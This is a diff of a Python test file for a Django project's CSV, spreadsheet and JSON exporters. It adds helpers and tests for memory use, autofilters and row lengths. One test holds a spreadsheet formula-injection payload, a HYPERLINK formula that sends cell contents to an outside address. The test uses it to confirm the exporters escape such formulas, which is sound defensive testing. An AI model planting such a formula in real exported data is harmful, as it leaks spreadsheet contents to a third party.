@@ -3,6 +3,7 @@
 import csv
 import io
 import json
+import tracemalloc
 import zipfile
 from datetime import date
 from decimal import Decimal
@@ -13,6 +14,7 @@ from django.utils import translation
 
 from kacanik_comms.core.tables import (
     BEGINS_A_FORMULA,
+    KEPT_IN_MEMORY,
     Column,
     Kind,
     Table,
@@ -39,6 +41,16 @@ def table_of(*rows):
     return Table("activities", "activities", COLUMNS, rows)
 
 
+def csv_of(table):
+    with as_csv(table) as file:
+        return file.read()
+
+
+def workbook_of(*tables):
+    with as_workbook(tables, title="t", about="a", made_on=date(2023, 1, 1)) as file:
+        return file.read()
+
+
 def read_csv(content):
     return list(csv.reader(io.StringIO(content.decode())))
 
@@ -46,22 +58,19 @@ def read_csv(content):
 def cells_of(book, sheet=1):
     """What stands in the cells of a sheet, by their places; with the formulas, of which there must be none."""
     with zipfile.ZipFile(io.BytesIO(book)) as file:
-        words = [
-            "".join(text.itertext())
-            for text in ElementTree.fromstring(file.read("xl/sharedStrings.xml")).findall("x:si", NAMESPACE)  # noqa: S314
-        ]
         root = ElementTree.fromstring(file.read(f"xl/worksheets/sheet{sheet}.xml"))  # noqa: S314
     assert not root.findall(".//x:f", NAMESPACE)
-    cells = {}
+    cells: dict[str, str | float] = {}
     for cell in root.iter(f"{{{NAMESPACE['x']}}}c"):
-        value = cell.find("x:v", NAMESPACE)
-        if value is not None:
-            cells[cell.get("r")] = words[int(value.text)] if cell.get("t") == "s" else float(value.text)
+        if cell.get("t") == "inlineStr":
+            cells[cell.attrib["r"]] = "".join(cell.itertext())
+        elif (value := cell.find("x:v", NAMESPACE)) is not None:
+            cells[cell.attrib["r"]] = float(value.text or "")
     return cells
 
 
 def test_csv_is_for_programs():
-    content = as_csv(table_of(ROW, ("", None, None, None, False, [])))
+    content = csv_of(table_of(ROW, ("", None, None, None, False, [])))
     assert not content.startswith(b"\xef\xbb\xbf")
     assert read_csv(content) == [
         ["title", "kind", "cost", "day", "done", "offices"],
@@ -71,7 +80,7 @@ def test_csv_is_for_programs():
 
 
 def test_a_spreadsheet_is_for_people():
-    cells = cells_of(as_workbook([table_of(ROW)], title="t", about="a", made_on=date(2023, 1, 1)))
+    cells = cells_of(workbook_of(table_of(ROW)))
     assert [cells[f"{column}1"] for column in "ABCDEF"] == ["Title", "Kind", "Cost", "Day", "Done", "Offices"]
     assert cells["A2"] == "Ditë e hapur"
     assert cells["B2"] == "E veçantë"
@@ -82,7 +91,7 @@ def test_a_spreadsheet_is_for_people():
 
 
 def test_a_last_sheet_explains_the_columns():
-    cells = cells_of(as_workbook([table_of(ROW)], title="t", about="a", made_on=date(2023, 1, 1)), sheet=2)
+    cells = cells_of(workbook_of(table_of(ROW)), sheet=2)
     assert (cells["B2"], cells["C2"], cells["D2"]) == ("Title", "title", "What is done.")
     assert cells["E3"] == "special = e veçantë"
 
@@ -104,10 +113,10 @@ def test_json_has_numbers_and_lists():
 def test_nothing_that_somebody_wrote_is_computed(sign):
     attack = f'{sign}HYPERLINK("http://example.org?x="&A1)'
     row = (attack, "special", None, None, None, [attack])
-    cells = read_csv(as_csv(table_of(row)))[1]
+    cells = read_csv(csv_of(table_of(row)))[1]
     assert cells[0] == f"'{attack}"
     assert cells[5] == f"'{attack}"
-    book = cells_of(as_workbook([table_of(row)], title="t", about="a", made_on=date(2023, 1, 1)))
+    book = cells_of(workbook_of(table_of(row)))
     # As the text that it is; a reader of XML takes line ends for one kind.
     assert isinstance(book["A2"], str)
     assert book["A2"].endswith("&A1)")
@@ -115,7 +124,7 @@ def test_nothing_that_somebody_wrote_is_computed(sign):
 
 def test_a_number_that_is_less_than_nothing_stays_a_number():
     row: tuple[object, ...] = ("x", "special", Decimal("-5.00"), None, None, [])
-    assert read_csv(as_csv(table_of(row)))[1][2] == "-5.00"
+    assert read_csv(csv_of(table_of(row)))[1][2] == "-5.00"
 
 
 def test_an_ordinary_text_stays_as_it_is():
@@ -124,26 +133,51 @@ def test_an_ordinary_text_stays_as_it_is():
 
 def test_a_text_longer_than_a_cell_is_cut_and_not_left_out():
     row: tuple[object, ...] = ("x" * 40_000, "special", None, None, None, [])
-    cell = cells_of(as_workbook([table_of(row)], title="t", about="a", made_on=date(2023, 1, 1)))["A2"]
+    cell = cells_of(workbook_of(table_of(row)))["A2"]
     assert len(cell) == 32_767
     assert cell.endswith("…")
 
 
 def test_an_address_in_a_cell_is_a_text_and_no_link():
     row: tuple[object, ...] = ("https://example.org/", "special", None, None, None, [])
-    book = as_workbook([table_of(row)], title="t", about="a", made_on=date(2023, 1, 1))
+    book = workbook_of(table_of(row))
     with zipfile.ZipFile(io.BytesIO(book)) as file:
         assert not [name for name in file.namelist() if "_rels/sheet" in name]
 
 
 def test_the_same_table_gives_the_same_bytes():
-    made = [as_workbook([table_of(ROW)], title="t", about="a", made_on=date(2023, 1, 1)) for _time in "12"]
+    made = [workbook_of(table_of(ROW)) for _time in "12"]
     assert made[0] == made[1]
 
 
-def test_a_row_of_another_length_is_refused():
-    with pytest.raises(ValueError, match="not as long"):
-        table_of(("x",))
+@pytest.mark.parametrize("write", [csv_of, workbook_of, as_json])
+def test_a_row_of_another_length_is_refused(write):
+    with pytest.raises(ValueError, match="shorter"):
+        write(table_of(("x",)))
+
+
+def test_only_a_table_with_rows_has_filters_over_its_columns():
+    def sheet_of(table):
+        with zipfile.ZipFile(io.BytesIO(workbook_of(table))) as file:
+            return file.read("xl/worksheets/sheet1.xml")
+
+    assert b"<autoFilter" not in sheet_of(table_of())
+    assert b'<autoFilter ref="A1:F3"' in sheet_of(table_of(ROW, ROW))
+
+
+@pytest.mark.parametrize("write", [csv_of, workbook_of])
+def test_ten_times_as_many_rows_take_no_more_memory(write):
+    def peak(rows):
+        table = Table("activities", "activities", COLUMNS, (ROW for _row in range(rows)))
+        tracemalloc.start()
+        write(table)
+        most = tracemalloc.get_traced_memory()[1]
+        tracemalloc.stop()
+        return most
+
+    peak(1)  # what is imported and kept by the first one
+    # The file itself is read into memory here.
+    assert peak(10_000) < 2.5 * peak(1_000) + 2 * KEPT_IN_MEMORY
 
 
 def test_the_dictionary_explains_each_column_and_its_codes():
